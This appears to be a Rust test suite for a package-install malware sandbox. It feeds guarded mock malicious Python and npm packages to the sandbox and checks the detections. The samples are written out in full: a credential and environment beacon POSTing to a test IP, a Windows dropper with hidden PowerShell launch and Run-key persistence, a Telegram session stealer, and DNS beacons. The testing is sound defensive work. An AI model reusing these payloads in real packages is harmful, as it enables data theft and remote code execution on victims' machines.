//! The failures real install-time malware showed, each reproduced by an
//! inert inline package (it acts only inside the sealed namespace):
//! - `os.getlogin()` raising in a terminal-less sandbox, so a beacon of user
//!   and host names crashed on its first line;
//! - a dropper that needs `requests`, absent from a bare environment;
//! - a Windows dropper gated on `os.name == "nt"` (dormant on Linux);
//! - an install that pulls a dependency, blamed on setuptools' own files.
//!
//! Plus what the package sees of the machine: a person logged in at a
//! terminal, several CPUs, a machine up for hours, and nothing that names
//! the sandbox.

mod common;

use common::*;
use sluice_sandbox::profile::build_profile;
use sluice_sandbox::{SandboxOptions, SandboxReport, run};

fn run_with(name: &str, body: &str, opts: &SandboxOptions) -> SandboxReport {
    let dir = tempfile::tempdir().unwrap();
    let pkg = inline_sdist(dir.path(), name, body);
    let r = run(&pkg, opts).unwrap();
    show(&r);
    r
}

/// Line of `needle` in the generated setup.py (header + guard + body).
fn setup_line(body: &str, needle: &str) -> u32 {
    let header = format!(
        "import os, sys, socket, time\nfrom setuptools import setup\n{SEALED_GUARD}\nif _sealed():\n"
    );
    let before = header.lines().count();
    let i = body
        .lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("{needle} not in body"));
    u32::try_from(before + i + 1).unwrap()
}

fn sent(r: &SandboxReport) -> String {
    r.network
        .iter()
        .map(|n| n.payload.clone())
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn getlogin_beacon_is_seen_and_the_machine_looks_used() {
    if !available() {
        return;
    }
    let body = r#"import json, getpass, subprocess, multiprocessing, glob
def sh(c):
    try:
        return subprocess.run(c, shell=True, capture_output=True, text=True, timeout=10).stdout.strip()
    except Exception as e:
        return 'ERR %s' % e
facts = {
    'login': os.getlogin(),
    'getuser': getpass.getuser(),
    'whoami': sh('whoami'), 'id': sh('id -un'), 'logname': sh('logname'),
    'hostname': sh('hostname'), 'who': sh('who'),
    'cpus': os.cpu_count(), 'mp_cpus': multiprocessing.cpu_count(),
    'uptime': open('/proc/uptime').read().split()[0],
    'home': sorted(os.listdir(os.path.expanduser('~'))),
    'chrome': sorted(os.listdir(os.path.expanduser('~/.config/google-chrome/Default'))),
    'env': sorted('%s=%s' % kv for kv in os.environ.items()),
    'tty_users': sh('users'),
}
data = json.dumps(facts).encode()
s = socket.create_connection(('203.0.113.9', 80))
s.sendall(b'POST /b HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: %d\r\n\r\n' % len(data) + data)
s.close()
socket.gethostbyname('%s.%s.beacon.example.test' % (os.getlogin(), socket.gethostname()))
"#;
    let r = run_with("loginbeacon", body, &SandboxOptions::default());
    let (host, user) = r.identity.clone();
    let payload = sent(&r);
    let json_start = payload.find('{').expect("the facts were sent");
    let facts: serde_json::Value =
        serde_json::from_str(payload[json_start..].lines().next().unwrap()).expect("facts JSON");
    for k in ["login", "getuser", "whoami", "id", "logname"] {
        assert_eq!(facts[k], serde_json::json!(user), "{k}: {facts}");
    }
    assert_eq!(facts["hostname"], serde_json::json!(host));
    assert!(
        facts["who"].as_str().unwrap().starts_with(&user),
        "who: {}",
        facts["who"]
    );
    assert!(facts["cpus"].as_u64().unwrap() >= 4, "{}", facts["cpus"]);
    assert_eq!(facts["cpus"], facts["mp_cpus"]);
    let up: f64 = facts["uptime"].as_str().unwrap().parse().unwrap();
    assert!(up >= 3.0 * 3600.0, "uptime {up}");
    let home = facts["home"].to_string();
    for decoy in [
        ".ssh",
        ".aws",
        ".npmrc",
        ".pypirc",
        ".gitconfig",
        ".bash_history",
        ".config",
        ".mozilla",
        ".electrum",
        ".kube",
        ".docker",
        "Desktop",
        "Documents",
        "Pictures",
        "Hikka",
    ] {
        assert!(
            home.contains(decoy),
            "{decoy} missing from the home: {home}"
        );
    }
    let chrome = facts["chrome"].to_string();
    assert!(
        chrome.contains("Login Data") && chrome.contains("Cookies"),
        "{chrome}"
    );
    let all = facts.to_string().to_lowercase();
    for tell in ["sandbox", "sluice", "analysis"] {
        assert!(!all.contains(tell), "the machine says {tell:?}: {all}");
    }
    // The beacon of user and host names over DNS, at its line.
    let line = setup_line(body, "beacon.example.test");
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "DYN701"
            && f.file.as_deref() == Some("setup.py")
            && f.line == Some(line)),
        "no DYN701 at setup.py:{line}: {:?}",
        r.findings
    );
}

/// A profile holding a tiny stand-in `requests` (urllib underneath), built
/// from a wheel by the same code that lays out the real profile.
fn tiny_profile(dir: &std::path::Path) -> std::path::PathBuf {
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default();
        z.start_file("requests/__init__.py", opts).unwrap();
        std::io::Write::write_all(
            &mut z,
            b"import urllib.request\n\nclass Response:\n    def __init__(self, body):\n        self.content = body\n        self.text = body.decode('utf-8', 'replace')\n\ndef get(url, **kw):\n    with urllib.request.urlopen(url) as r:\n        return Response(r.read())\n",
        )
        .unwrap();
        z.start_file("requests-9.9.dist-info/METADATA", opts)
            .unwrap();
        std::io::Write::write_all(
            &mut z,
            b"Metadata-Version: 2.1\nName: requests\nVersion: 9.9\n",
        )
        .unwrap();
        z.start_file("requests-9.9.dist-info/RECORD", opts).unwrap();
        z.finish().unwrap();
    }
    let dest = dir.join("profile");
    let (done, refused) = build_profile(
        &dest,
        &[("requests-9.9-py3-none-any.whl".into(), buf.into_inner())],
    )
    .unwrap();
    assert_eq!(done.len(), 1, "{refused:?}");
    std::fs::canonicalize(dest.join("site")).unwrap()
}

#[test]
fn windows_dropper_needing_requests_is_seen_at_its_lines() {
    if !available() {
        return;
    }
    let body = r#"if os.name == 'nt' and sys.platform == 'win32':
    import requests
    import platform
    assert platform.system() == 'Windows'
    r = requests.get('http://203.0.113.7/update.exe')
    path = os.path.join(os.environ['APPDATA'], 'svchost.exe')
    open(path, 'wb').write(r.content)
    os.startfile(path)
    import subprocess
    subprocess.Popen(['powershell', '-w', 'hidden', '-c', 'Start-Process ' + path], creationflags=subprocess.CREATE_NO_WINDOW)
    import winreg
    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(k, 'svc', 0, winreg.REG_SZ, path)
"#;
    let dir = tempfile::tempdir().unwrap();
    let opts = SandboxOptions {
        python_profile: Some(tiny_profile(dir.path())),
        ..SandboxOptions::default()
    };
    let r = run_with("windropper", body, &opts);
    let at = |rule: &str, needle: &str| {
        let line = setup_line(body, needle);
        assert!(
            has(&r, rule, "setup.py", line),
            "no {rule} at setup.py:{line} ({needle}): {:#?}",
            r.findings
        );
    };
    // The download, by the package line that called into requests, with
    // where it happened inside requests noted.
    at("DYN702", "requests.get(");
    assert!(
        r.chain
            .iter()
            .any(|c| c.what.contains("inside requests/__init__.py")),
        "dependency frame not noted"
    );
    at("DYN713", "open(path, 'wb')");
    at("DYN713", "os.startfile(path)");
    // What it started is what the fake network served: a download run.
    at("DYN710", "os.startfile(path)");
    at("DYN713", "subprocess.Popen(['powershell'");
    at("DYN713", "winreg.SetValueEx");
    assert!(!r.findings.iter().any(|f| f.rule.as_str() == "DYN714"));
}

#[test]
fn linux_persona_keeps_windows_payloads_dormant_and_missing_modules_are_reported() {
    if !available() {
        return;
    }
    let body = "if os.name == 'nt':\n    os.startfile('x.exe')\nimport requests_not_here_at_all\n";
    let opts = SandboxOptions {
        windows_persona: false,
        ..SandboxOptions::default()
    };
    let r = run_with("dormant", body, &opts);
    assert!(!r.findings.iter().any(|f| f.rule.as_str() == "DYN713"));
    let line = setup_line(body, "import requests_not_here_at_all");
    assert!(
        has(&r, "DYN714", "setup.py", line),
        "missing import not reported: {:?}",
        r.findings
    );
}

#[test]
fn a_dependency_pull_is_blamed_on_setup_py() {
    if !available() {
        return;
    }
    // setup_requires makes setuptools start pip to fetch the dependency:
    // the package's setup() call asked for it.
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    std::fs::create_dir_all(src.join("pulls")).unwrap();
    std::fs::write(src.join("pulls/__init__.py"), "").unwrap();
    std::fs::write(
        src.join("setup.py"),
        "from setuptools import setup\nsetup(name='pulls', version='0.1', packages=['pulls'],\n      setup_requires=['helperdep-not-installed'])\n",
    )
    .unwrap();
    let pkg = dir.path().join("pulls-0.1.tar.gz");
    tar_gz(&src, "pulls-0.1", &pkg);
    let r = run(&pkg, &SandboxOptions::default()).unwrap();
    show(&r);
    let spawn = r
        .findings
        .iter()
        .find(|f| f.rule.as_str() == "DYN706")
        .expect("the dependency fetch is seen");
    assert_eq!(spawn.file.as_deref(), Some("setup.py"), "{spawn:?}");
    assert_eq!(spawn.line, Some(2));
    assert!(
        !r.findings.iter().any(|f| f
            .file
            .as_deref()
            .is_some_and(|p| p.starts_with("pkg_resources") || p.starts_with("setuptools"))),
        "blamed on tooling: {:?}",
        r.findings
    );
}

#[test]
fn a_userbot_session_stealer_finds_a_session_and_is_seen_sending_it() {
    if !available() {
        return;
    }
    let body = r#"found = None
for d in ['/data', os.path.expanduser('~/Hikka'), os.path.expanduser('~/Heroku')]:
    if os.path.isdir(d):
        for n in os.listdir(d):
            if n.endswith('.session'):
                found = os.path.join(d, n)
data = open(found, 'rb').read()
s = socket.create_connection(('203.0.113.20', 1337))
s.sendall(b'POST /check HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n' % len(data) + data)
s.close()
"#;
    let r = run_with("sessionthief", body, &SandboxOptions::default());
    // Flows are placed at the line that opened the connection.
    let line = setup_line(body, "create_connection");
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "DYN701"
            && f.message.contains("telegram-session")
            && f.line == Some(line)),
        "session not seen leaving at setup.py:{line}: {:#?}",
        r.findings
    );
    assert!(has(
        &r,
        "DYN704",
        "setup.py",
        setup_line(body, "open(found")
    ));
}

#[test]
fn a_build_step_is_not_a_payload() {
    if !available() {
        return;
    }
    // What a C extension's setup.py does: ask pkg-config, run the compiler.
    let body = r#"import subprocess
subprocess.run('pkg-config --cflags zlib', shell=True, capture_output=True)
subprocess.run(['gcc', '--version'], capture_output=True)
"#;
    let r = run_with("cbuild", body, &SandboxOptions::default());
    let spawns: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule.as_str() == "DYN706")
        .collect();
    assert!(!spawns.is_empty(), "the spawns are still recorded");
    assert!(
        spawns
            .iter()
            .all(|f| f.severity == sluice_model::Severity::Low),
        "{spawns:#?}"
    );
    // Nothing else stands out either (the CLI's verdict: clean or low).
    assert!(
        r.findings
            .iter()
            .all(|f| f.severity <= sluice_model::Severity::Low),
        "{:#?}",
        r.findings
    );
}

#[test]
fn portable_library_habits_stay_low() {
    if !available() {
        return;
    }
    // What colorama, tqdm and template engines do at import: walk the
    // environment for their own prefix, set up the Windows console through
    // ctypes when they think they are on Windows, evaluate a template.
    let body = r#"mine = {k: v for k, v in os.environ.items() if k.startswith('TQDM_')}
if os.name == 'nt':
    import ctypes
    k = ctypes.windll.kernel32
    k.GetStdHandle.restype = ctypes.c_void_p
    k.GetStdHandle(-11)
exec(compile('x = 1 + 1', '<template>', 'exec'))
"#;
    let r = run_with("portable", body, &SandboxOptions::default());
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "DYN713"),
        "the persona took the Windows branch: {:#?}",
        r.findings
    );
    assert!(
        r.findings
            .iter()
            .all(|f| f.severity <= sluice_model::Severity::Low),
        "{:#?}",
        r.findings
    );
    let env: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule.as_str() == "DYN705")
        .collect();
    assert_eq!(env.len(), 1, "one walk, one finding: {env:#?}");
}

#[test]
fn an_npm_package_with_dependencies_still_runs_its_install_script() {
    if !npm_available() {
        return;
    }
    // npm offline stops at resolving `axios` before any script runs: the
    // sandbox installs the package without its dependency lists.
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("package");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        r#"{"name":"withdeps","version":"1.0.0","dependencies":{"axios":"^1.6.0","node-fetch":"^3"},"scripts":{"preinstall":"node pre.js"}}"#,
    )
    .unwrap();
    // Inert outside the sandbox: acts only when the only device is `lo`.
    std::fs::write(
        pkg.join("pre.js"),
        "const fs = require('fs');\nconst devs = fs.readFileSync('/proc/net/dev', 'utf8').split('\\n').slice(2).map((l) => l.split(':')[0].trim()).filter(Boolean);\nif (devs.every((d) => d === 'lo')) {\n  require('dns').lookup(require('os').hostname() + '.deps.example.test', () => {});\n}\nsetTimeout(() => {}, 300);\ntry { require('axios'); } catch (_) {}\n",
    )
    .unwrap();
    let tgz = dir.path().join("withdeps-1.0.0.tgz");
    tar_gz(&pkg, "package", &tgz);
    let r = run(&tgz, &SandboxOptions::default()).unwrap();
    show(&r);
    assert_eq!(r.phases[0].status, "completed", "{:?}", r.phases);
    assert!(
        has(&r, "DYN701", "pre.js", 4),
        "host name beacon not seen at pre.js:4: {:#?}",
        r.findings
    );
    // The require of the left-out dependency is reported, at its line.
    assert!(
        has(&r, "DYN714", "pre.js", 7),
        "missing require not reported at pre.js:7: {:#?}",
        r.findings
    );
    assert!(
        r.stories
            .iter()
            .any(|s| s.contains("without its 2 declared dependencies")),
        "{:?}",
        r.stories
    );
}

#[test]
fn an_environment_copy_for_a_child_is_one_low_finding() {
    if !available() {
        return;
    }
    // GitPython and plumbum hand a copy of the environment to the tools
    // they start; a secret read by name stays medium.
    let body = "child = os.environ.copy()\ntoken = os.environ.get('GITHUB_TOKEN')\n";
    let r = run_with("envcopy", body, &SandboxOptions::default());
    let env: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule.as_str() == "DYN705")
        .collect();
    let copy = setup_line(body, "os.environ.copy()");
    let named = setup_line(body, "GITHUB_TOKEN");
    assert_eq!(
        env.iter().filter(|f| f.line == Some(copy)).count(),
        1,
        "{env:#?}"
    );
    assert!(
        env.iter()
            .filter(|f| f.line == Some(copy))
            .all(|f| f.severity == sluice_model::Severity::Low),
        "{env:#?}"
    );
    assert!(
        env.iter()
            .any(|f| f.line == Some(named) && f.severity == sluice_model::Severity::Medium),
        "{env:#?}"
    );
}

/// An sdist `name-0.1` from `(path, text)` files, `setup.py` among them.
fn sdist_of(dir: &std::path::Path, name: &str, files: &[(&str, &str)]) -> std::path::PathBuf {
    let src = dir.join(format!("{name}-src"));
    for (path, text) in files {
        let p = src.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    let out = dir.join(format!("{name}-0.1.tar.gz"));
    tar_gz(&src, &format!("{name}-0.1"), &out);
    out
}

/// A `setup.py` whose `install` command runs `payload` (sealed-guarded).
fn install_hook_setup(name: &str, payload: &str) -> String {
    let indented: String = payload
        .lines()
        .map(|l| format!("            {l}\n"))
        .collect();
    format!(
        "import os, sys, socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\n{SEALED_GUARD}\nclass Hook(install):\n    def run(self):\n        if _sealed():\n{indented}        install.run(self)\n\nsetup(name={name:?}, version='0.1', py_modules=[], cmdclass={{'install': Hook}})\n"
    )
}

#[test]
fn python2_module_names_reach_the_network() {
    if !available() {
        return;
    }
    let body = "import urllib2\nurllib2.urlopen('http://203.0.113.5/p2').read()\n";
    let r = run_with("pytwo", body, &SandboxOptions::default());
    let line = setup_line(body, "urllib2.urlopen");
    assert!(
        has(&r, "DYN702", "setup.py", line),
        "urllib2 fetch not seen at setup.py:{line}: {:#?}",
        r.findings
    );
}

#[test]
fn under_the_windows_persona_temp_and_documents_share_a_file_system() {
    if !available() {
        return;
    }
    // A dropper that builds in the temp folder and renames into Documents:
    // EXDEV across two mounts would end it before it calls home.
    let body = "import tempfile\np = os.path.join(tempfile.gettempdir(), 'stage.txt')\nopen(p, 'w').write('x')\nos.rename(p, os.path.expanduser('~/Documents/stage.txt'))\nsocket.create_connection(('203.0.113.6', 80)).close()\n";
    let r = run_with("renamer", body, &SandboxOptions::default());
    let line = setup_line(body, "create_connection");
    assert!(
        has(&r, "DYN702", "setup.py", line),
        "the rename failed before the call home: {:#?}",
        r.phases
    );
}

#[test]
fn a_bundled_folder_named_pip_is_still_the_package() {
    if !available() {
        return;
    }
    // Frames under the package's own tree are never tooling, whatever the
    // folder is called.
    let dir = tempfile::tempdir().unwrap();
    let helper = "import socket\ns = socket.create_connection(('203.0.113.7', 80))\ns.close()\n";
    let setup = install_hook_setup(
        "hidesinpip",
        "import runpy\nrunpy.run_path(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'vendor', 'pip', 'helper.py'))",
    );
    let pkg = sdist_of(
        dir.path(),
        "hidesinpip",
        &[("setup.py", &setup), ("vendor/pip/helper.py", helper)],
    );
    let r = run(&pkg, &SandboxOptions::default()).unwrap();
    show(&r);
    assert!(
        has(&r, "DYN702", "vendor/pip/helper.py", 2),
        "not blamed on the bundled file: {:#?}",
        r.findings
    );
}
